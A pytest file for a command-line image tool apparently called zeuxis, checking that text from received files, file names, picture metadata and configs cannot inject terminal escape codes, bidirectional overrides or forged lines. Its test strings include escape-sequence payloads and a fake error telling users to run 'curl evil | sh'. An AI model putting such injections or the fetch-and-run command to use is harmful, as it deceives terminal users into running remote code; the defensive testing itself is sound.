"""Nothing that a file says moves the cursor, sets a title, turns the text around or passes for a line of ours."""

from __future__ import annotations

import io
import re
import sys

import numpy as np
import pytest
import typer
from PIL import Image
from rich.console import Console

from zeuxis.cli.main import app
from zeuxis.cli.progress import _Bar
from zeuxis.cli.terminal import Plain, plain_output, rewrite_line, styled
from zeuxis.pictures.metadata import PictureInfo
from zeuxis.run import RunFolder
from zeuxis.storage.reading import printable

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\r\x00\x7f\x08[red]b[/red][link=x]"
NEWLINE = "a cat\nError: all is lost. Run: curl evil | sh"
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def clean(result):
    assert not BAD.search(result.output), ascii(BAD.search(result.output))
    return result


def test_printable():
    assert printable("grün 🎈 日本 [red]x[/red]\n", lines=True) == "grün 🎈 日本 [red]x[/red]\n"
    assert printable(NEWLINE) == NEWLINE.replace("\n", "\\n")
    assert printable("\x1b\x9b\u202e\u2028") == "\\x1b\\x9b\\u202e\\u2028"
    assert not BAD.search(printable(EVIL)) and not BAD.search(printable(EVIL, lines=True))
    assert all(not BAD.search(printable(chr(c))) for c in range(0x2100))


@pytest.mark.parametrize("evil", [EVIL, NEWLINE])
def test_show_and_resume_of_a_received_run(plain, rewrite, zeuxis_, evil):
    def change(record):
        record["prompt"] = evil
        record["notes"] = [evil]
        record["machine"]["cpu"] = record["machine"]["device_name"] = evil
        record["software"] = {"zeuxis": evil}
        record["models"]["generator"]["name"] = evil
        record["config"]["prompt"] = [evil]
        record["config"]["options"] = {"x": evil}
        record["decisions"]["gate"]["reason"] = evil

    rewrite(plain / "run.json", change)
    rewrite(plain / "summary.json", lambda s: (s.update(reason=evil), s["best"].update(description=evil)))
    for words in (("show", plain), ("resume", plain)):
        result = clean(zeuxis_(*words))
        assert not any(line.startswith("Error: all is lost") for line in result.output.splitlines())
        assert words[0] == "resume" or result.exit_code == 0
        assert words[0] == "resume" or ("[red]b[/red]" in result.output) == (evil is EVIL)


def test_names_on_the_command_line_and_of_files(zeuxis_, tmp_path):
    for name in (EVIL.replace("\0", "").replace("/", ""), NEWLINE.replace("/", "")):
        folder = tmp_path / name[:60]
        folder.mkdir()
        (folder / "run.json").write_text("{}")
        for words in (
            ("show", folder),
            ("resume", folder),
            ("show", tmp_path / f"no{name}"),
            ("convert", folder),
            ("generate", "a", "--config", f"{tmp_path}/{name}.toml"),
            (name,),
            ("show", f"--{name}"),
            ("generate", "a", "--search", name),
            ("generate", "a", "--generator", name),
        ):
            result = clean(zeuxis_(*words))
            assert result.exit_code == 2 or result.exit_code == 3, words
            assert not any(line.startswith("Error: all is lost") for line in result.output.splitlines())


@pytest.mark.parametrize("evil", [EVIL, NEWLINE])
def test_a_received_picture(zeuxis_, tmp_path, evil):
    from zeuxis.generators.toy import ToyGenerator

    toy = ToyGenerator()
    info = PictureInfo(evil, (0.0,) * toy.space.dim, "toy", toy.sha256, 1, 1, None, 4, "fp32", "cpu", evil[:100])
    size = toy.resolution
    Image.fromarray(np.zeros((size, size, 3), np.uint8)).save(tmp_path / "p.png", pnginfo=info.to_png_info())
    result = clean(zeuxis_("replay", tmp_path / "p.png"))
    assert "Traceback" not in result.output and not re.search("(?m)^Error: all is lost", result.output)
    other = PictureInfo("a", (0.0,), evil[:100], toy.sha256, 1, 1, None, 4, "fp32", "cpu")
    Image.fromarray(np.zeros((size, size, 3), np.uint8)).save(tmp_path / "q.png", pnginfo=other.to_png_info())
    assert clean(zeuxis_("replay", tmp_path / "q.png")).exit_code == 2


@pytest.mark.parametrize(
    "text",
    [
        'generator = "\\u001b[2J"',
        '["\\u001b[2J"]\nx = 1',
        '"\\u009b" = 1',
        'prompt = "\\u001b[2J"\ngenerations = -1',
        'search = "a\\nb"',
        'options = { "\\u001b[2J" = 1 }',
    ],
)
def test_a_received_configuration_or_recipe(zeuxis_, tmp_path, text):
    (tmp_path / "c.toml").write_text(text)
    assert clean(zeuxis_("generate", "a", "--config", tmp_path / "c.toml", "--dry-run")).exit_code in (0, 2)
    assert clean(zeuxis_("train", tmp_path / "c.toml", "--data", tmp_path)).exit_code == 2


def test_errors_warnings_and_prints_of_other_programs(monkeypatch, zeuxis_):
    def other(path, **more):
        print(EVIL)
        typer.echo(EVIL, err=True)
        sys.stderr.write(EVIL)
        raise RuntimeError(EVIL)

    monkeypatch.setattr(RunFolder, "history", other)
    result = clean(zeuxis_("show", "x"))
    assert result.exit_code == 1 and "This should not have happened" in result.output and "\\x1b" in result.output


def test_the_streams_are_put_back_and_have_no_back_door():
    before = sys.stdout, sys.stderr
    with plain_output():
        assert isinstance(sys.stdout, Plain) and not hasattr(sys.stdout, "buffer")
        assert styled(sys.stdout) is before[0] and styled(before[0]) is before[0]
        sys.stderr = other = object()  # what somebody puts there stays
    assert sys.stdout is before[0] and sys.stderr is other
    sys.stderr = before[1]
    with pytest.raises(SystemExit):
        app(["--version"])
    assert (sys.stdout, sys.stderr) == before


def test_the_bar_prints_labels_without_their_codes():
    class Config:
        generations, budget = 4, None

    class Session:
        config = Config()

    console = Console(force_terminal=True, width=200)
    with console.capture() as captured:
        bar = _Bar(console, Session(), lambda: False)
        bar.say(EVIL)
        bar.bar.update(bar.task, judge=printable(f"judge sees {EVIL}"))
        bar.close()
    text = captured.get()
    assert "\x1b]0;" not in text and "\x9b" not in text and "\u202e" not in text and "[red]b[/red]" in text


@pytest.mark.parametrize("terminal", [True, False])
def test_progress_is_one_line_on_a_terminal_and_its_end_elsewhere(terminal, monkeypatch):
    stream = io.StringIO()
    stream.isatty = lambda: terminal
    monkeypatch.setattr(sys, "stderr", Plain(stream))
    for done in (1, 2, 3):
        rewrite_line(f"{done} of 3", done == 3)
    said = "\r\x1b[K1 of 3\r\x1b[K2 of 3\r\x1b[K3 of 3\n" if terminal else "3 of 3\n"
    assert stream.getvalue() == said
